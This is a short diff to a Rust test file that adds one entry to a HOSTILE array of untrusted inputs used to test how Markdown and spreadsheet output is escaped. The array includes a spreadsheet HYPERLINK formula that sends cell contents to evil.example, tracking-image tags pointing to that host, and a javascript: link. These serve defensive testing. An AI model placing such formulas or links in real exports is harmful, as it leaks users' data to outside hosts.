@@ -169,7 +169,7 @@ fn what_was_given_out_before_stays() {
 }
 
 /// What the evil pack of a stranger holds, and what people write into notes.
-const HOSTILE: [&str; 12] = [
+const HOSTILE: [&str; 13] = [
     "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")",
     "![](http://evil.example/track.png) <img src=http://evil.example/t.png> [click](javascript:alert(1))",
     "쿼리:\n```\nselect 1",
@@ -182,6 +182,7 @@ const HOSTILE: [&str; 12] = [
     "+82로 시작하는 질문",
     "@mention",
     "&lt;b&gt; trailing hashes ##",
+    "^up^ {#id .class}",
 ];
 
 /// The Markdown of one answer whose question, story and notes are this text.
